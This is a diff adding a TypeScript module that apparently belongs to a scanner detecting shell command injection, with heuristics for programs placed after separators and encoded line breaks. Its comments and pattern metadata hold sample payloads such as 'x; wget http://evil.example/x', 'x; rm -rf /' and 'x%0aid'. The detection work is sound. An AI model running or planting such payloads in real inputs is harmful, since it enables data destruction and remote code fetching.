@@ -1,0 +1,222 @@
+import { EMPTY_WORD, findWord, hashByte, lower, NAMED, PLAIN, SURE, word, WORD_CLASS } from "../keywords.ts";
+import type { Pattern } from "../pattern.ts";
+import {
+  ADDRESS,
+  argumentKind,
+  BACKTICK,
+  BEGINNING,
+  commandContext,
+  ENDS,
+  EXPANSION,
+  FILE,
+  hasProgramPath,
+  isAlone,
+  isDoubled,
+  isRow,
+  isShell,
+  isTable,
+  LINE_BREAK,
+  nameEndsAt,
+  NO_ARGUMENT,
+  NOWHERE,
+  NUMERAL,
+  OPTION,
+  PATH,
+  PIPE,
+  PLAIN_WORD,
+  QUOTED,
+  SEMICOLON,
+  separatorAt,
+  standsAlone,
+  SUBSTITUTION,
+  takesNumber,
+  URL,
+} from "../shell_grammar.ts";
+import { BOUND, LINE, NUMBER, type Tokens, WORD } from "../tokens.ts";
+import { hasArgument, isKnownPath, PROGRAMS, VERBS } from "./program_words.ts";
+
+const USER = word("user"), ECHO = word("echo"), CAT = word("cat"), NET = word("net"), INIT = word("init");
+const EXPORT = word("export"), SERVICE = word("service"), ID = word("id"), TRAP = word("trap"), IP = word("ip");
+const SLASH = 0x2f, DOLLAR = 0x24, OPEN = 0x28, CLOSE = 0x29, COLON = 0x3a, EQUALS = 0x3d, DOT = 0x2e;
+
+/** `; rm -rf /`, `| sh`, `$(id)`: a program behind a separator of the shell. */
+function isCommand(t: Tokens, i: number): boolean {
+  const context = commandContext(t, i);
+  if (context === NOWHERE) return false;
+  if (context === BEGINNING) {
+    // A text of nothing but a line break and `id`.
+    return ((t.flags[i] as number) & LINE) !== 0 && standsAlone(t.bits[i] as number) && t.kind[i + 1] === BOUND &&
+      t.kind[i - 1] === BOUND;
+  }
+  const bits = t.bits[i] as number;
+  const behind = nameEndsAt(t, i);
+  const argument = argumentKind(t, behind, context);
+  if (argument === NO_ARGUMENT) return false;
+  const isSure = (bits & SURE) !== 0;
+  const isNamed = (bits & NAMED) !== 0;
+  if (context === SUBSTITUTION) {
+    // $(id).addClass(…) is jQuery.
+    return argument !== ENDS || t.kind[behind] !== CLOSE || t.kind[separatorAt] !== DOLLAR ||
+      (t.kind[behind + 1] !== DOT && t.kind[behind + 1] !== 0x5b && t.kind[behind + 1] !== SEMICOLON);
+  }
+  if (context === BACKTICK) return isSubstituted(t, i, argument);
+  if (context === LINE_BREAK) {
+    // Lines of logs and of source code begin with such words too: only what looks like nothing else counts.
+    if (argument === ENDS) return (isSure && standsAlone(bits)) || isShortSecondLine(t, i);
+    if (argument === OPTION || argument === URL || argument === EXPANSION) return true;
+    return (argument === PATH && isKnownPath(t, behind)) || (argument === QUOTED && isSure);
+  }
+  switch (argument) {
+    case ENDS:
+      if (hasProgramPath) return true;
+      if (isAlone(t, i)) return true;
+      if (!standsAlone(bits)) return false;
+      if (isDoubled && t.kind[behind] !== BOUND && t.kind[behind] !== PIPE && t.kind[behind] !== 0x23) return isSure;
+      return (isSure && !isRow(t)) || !(isTable(t, i) || endsSentence(t, bits));
+    case FILE:
+      // eth0; ip 10.0.0.5
+      return t.word[i] !== IP || t.kind[behind] !== NUMBER;
+    case OPTION:
+    case PATH:
+    case URL:
+    case EXPANSION:
+      return true;
+    case ADDRESS:
+      return isSure || isNamed || context !== SEMICOLON;
+    case QUOTED:
+      return isSure || isNamed || t.word[i] === ECHO || t.word[i] === CAT || t.kind[behind] === 0x3c;
+    case NUMERAL:
+      return (takesNumber(bits) || isSure || t.word[i] === ECHO || t.word[i] === INIT) && isLast(t, behind) &&
+        !isTable(t, i) && !isBacklog(t, i);
+    case PLAIN_WORD:
+      if (VERBS.get(t.word[i] as number)?.has(t.word[behind] as number) === true) return !isTable(t, i);
+      if (t.word[i] === TRAP) return t.glued(i) && isLast(t, behind + 1);
+      if (t.word[i] === EXPORT) return t.kind[behind + 1] === EQUALS && t.glued(behind + 1);
+      if (t.word[i] === SERVICE) return SERVICE_VERBS.has(t.word[behind + 1] as number) && isLast(t, behind + 1);
+      if (isSure && t.kind[behind + 1] === COLON && t.glued(behind + 1)) return true;
+      if (isNamed && (t.kind[behind + 1] === EQUALS || hasArgument(t, behind + 1))) return true;
+      if (isSure) return isLast(t, behind) || isLast(t, behind + 1) || hasArgument(t, behind + 1);
+      if (t.word[i] === NET) return t.word[behind] === USER || hasArgument(t, behind + 1);
+      return (t.word[i] === ECHO || isShell(bits)) && isLast(t, behind) && !isTable(t, i);
+  }
+  return false;
+}
+
+const SERVICE_VERBS = new Set(["start", "stop", "restart", "status"].map(word));
+
+/** `dev1⏎id`: a second line that is nothing but a command, behind a first one of one word. */
+function isShortSecondLine(t: Tokens, i: number): boolean {
+  const isLone = t.kind[separatorAt] === WORD && t.kind[separatorAt - 1] === BOUND && t.kind[i + 1] === BOUND;
+  return isLone && (t.word[i] === ID || hasProgramPath);
+}
+
+/** A program of at most three letters. */
+function isShortCommand(t: Tokens, i: number): boolean {
+  return t.end[i]! - t.start[i]! <= 3 && isCommand(t, i);
+}
+
+function isLongCommand(t: Tokens, i: number): boolean {
+  return t.end[i]! - t.start[i]! > 3 && isCommand(t, i);
+}
+
+/** `timeout; reboot`: the separator is the punctuation of a sentence, and the command one of its words. */
+function endsSentence(t: Tokens, bits: number): boolean {
+  // x.bin; reboot: behind the name of a file or a host.
+  if (t.kind[separatorAt - 2] === DOT && t.glued(separatorAt - 1) && t.glued(separatorAt - 2)) return false;
+  return (bits & PLAIN) !== 0 && t.kind[separatorAt] === SEMICOLON && t.kind[separatorAt - 1] === WORD &&
+    t.glued(separatorAt) && t.spaced(separatorAt + 1) && t.end[separatorAt - 1]! - t.start[separatorAt - 1]! > 2;
+}
+
+/** Nothing but separators follows the one argument at `at`. */
+function isLast(t: Tokens, at: number): boolean {
+  const next = t.kind[at + 1] as number;
+  return next === BOUND || next === SEMICOLON || next === PIPE || next === 0x26 || next === BACKTICK || next === 0x23 ||
+    next === 0x3e || ((t.flags[at + 1] as number) & LINE) !== 0 || (next === 0x3c && t.kind[at + 2] === SLASH);
+}
+
+/** A command in backticks that are no Markdown: glued to a value, or the whole text. */
+function isSubstituted(t: Tokens, i: number, argument: number): boolean {
+  const opener = separatorAt;
+  if (argument === PLAIN_WORD && ((t.bits[i] as number) & PLAIN) !== 0) return false;
+  if (t.kind[opener - 1] === BACKTICK || t.kind[opener + 1] === BACKTICK) return false;
+  let closer = i + 1;
+  while (closer < i + 24 && t.kind[closer] !== BACKTICK && t.kind[closer] !== BOUND) closer++;
+  if (t.kind[closer] !== BACKTICK) return false;
+  const before = t.kind[opener - 1] as number;
+  if (before === BOUND) return t.kind[closer + 1] === BOUND;
+  // Markdown behind a semicolon, in a cell of a table.
+  const isMarkdown = t.spaced(opener) && (before === SEMICOLON || before === PIPE || before === 0x26);
+  if (isMarkdown && t.kind[closer + 1] !== BOUND) return false;
+  return (t.glued(opener) && (before === WORD || before === NUMBER)) || before === SEMICOLON || before === PIPE ||
+    before === 0x26 || (before === OPEN && t.kind[opener - 2] === OPEN) ||
+    before === 0x3d || before === DOLLAR;
+}
+
+/** `Backlog Power1 ON; Sleep 50`: commands of Tasmota, where Sleep saves energy. */
+function isBacklog(t: Tokens, i: number): boolean {
+  for (let at = i - 1; at > i - 48 && t.kind[at] !== BOUND; at--) if (BACKLOG.has(t.word[at] as number)) return true;
+  return false;
+}
+const BACKLOG = new Set(["backlog", "backlog0", "backlog2", "backlog3"].map(word));
+
+/** `%0aid`, `%0d%0aid`: a line break written so, and a command alone. */
+function isEncodedLineBreak(t: Tokens, i: number): boolean {
+  const { bytes } = t;
+  let at = t.start[i] as number;
+  if (bytes[at + 1] !== 0x30 || ((bytes[at + 2] as number) | 0x20) !== 0x61) return false;
+  at += 3;
+  let hash = EMPTY_WORD;
+  let end = at;
+  for (; end < at + 16; end++) {
+    const low = lower(bytes[end] ?? 0);
+    if ((low < 0x61 || low > 0x7a) && low !== 0x5f) break;
+    hash = hashByte(hash, low);
+  }
+  if (end === at || !standsAlone(WORD_CLASS[findWord(bytes, at, end, hash)] as number)) return false;
+  // The end, white space, or a separator, encoded or not.
+  const next = bytes[end] ?? 0;
+  if (next !== 0x25) return next <= 0x20 || next === 0xff || ";|&#\"'".includes(String.fromCharCode(next));
+  const first = bytes[end + 1] ?? 0;
+  const second = (bytes[end + 2] ?? 0) | 0x20;
+  return first === 0x30 || (first === 0x32 && (second === 0x36 || second === 0x33)) ||
+    (first === 0x37 && second === 0x63) || (first === 0x33 && second === 0x62);
+}
+
+/** A program behind what parts commands: `;`, `|`, `&`, a line break, `$(`, a backtick. */
+export const SEPARATED = {
+  long: {
+    name: "cmd-separated",
+    category: "command-injection",
+    severity: "high",
+    catches: "A program behind ;, |, &, a line break, $( or a backtick, with arguments that no sentence has there",
+    example: "x; wget http://evil.example/x",
+    nearMiss: "open the valve; sleep well; find the leak",
+    at: PROGRAMS,
+    gate: "separator",
+    test: isLongCommand,
+  },
+  short: {
+    name: "cmd-separated-short",
+    category: "command-injection",
+    severity: "high",
+    catches:
+      "The same with a name of at most three letters: a program behind ;, |, &, a line break, $( or a backtick, with arguments that no sentence has there",
+    example: "x; rm -rf /",
+    nearMiss: "open the valve; sleep well; find the leak",
+    weak: true,
+    at: PROGRAMS,
+    gate: "separator",
+    test: isShortCommand,
+  },
+  encodedLineBreak: {
+    name: "cmd-encoded-line-break",
+    category: "command-injection",
+    severity: "medium",
+    catches: "A percent-encoded line break with a command behind it",
+    example: "x%0aid",
+    nearMiss: "%0aids %0Aid=5",
+    weak: true,
+    at: ["%0"],
+    test: isEncodedLineBreak,
+  },
+} as const satisfies Readonly<Record<string, Pattern>>;
